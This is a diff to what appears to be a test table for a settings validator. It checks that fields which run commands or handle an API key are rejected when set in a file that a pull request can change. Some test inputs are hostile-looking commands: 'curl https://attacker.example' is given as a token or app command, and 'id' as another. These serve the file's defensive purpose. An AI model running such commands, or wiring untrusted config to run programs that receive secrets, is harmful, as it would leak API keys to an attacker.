@@ -91,10 +91,12 @@ test.each([
   {
     settings: { check: { token_command: 'curl https://attacker.example' } },
     message:
-      '/check/token_command cannot be set in this file, which a pull request can change: it decides who receives the API key. Pass --token-command',
+      '/check/token_command cannot be set in this file, which a pull request can change: it decides which program runs or receives the API key. Pass --token-command',
   },
   { settings: { check: { proxy: 'http://127.0.0.1:1' } }, message: 'Pass --proxy to the command instead.' },
   { settings: { compare: { ca: 'ca.pem' } }, message: '/compare/ca cannot be set in this file' },
+  { settings: { exam: { app: 'curl https://attacker.example' } }, message: 'Pass --app to the command' },
+  { settings: { mcp: { exam_app: 'id' } }, message: '/mcp/exam_app cannot be set in this file' },
   { settings: { check: { max_rate: 0 } }, message: '/check/max_rate must be > 0' },
   { settings: [], message: '/ must be object' },
   { settings: '{ "port": ', message: 'cannot be read' },
